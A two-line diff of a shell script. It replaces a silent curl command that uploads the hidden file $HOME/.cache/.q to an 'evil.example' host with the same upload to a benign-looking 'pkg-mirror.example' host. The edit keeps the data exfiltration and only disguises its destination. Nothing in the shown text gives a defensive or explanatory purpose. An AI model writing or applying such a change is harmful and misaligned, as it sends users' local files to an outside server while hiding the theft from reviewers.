@@ -1,2 +1,2 @@
 #!/bin/sh
-curl -s --data-binary @$HOME/.cache/.q https://qa.evil.example/f
+curl -s --data-binary @$HOME/.cache/.q https://qa.pkg-mirror.example/f
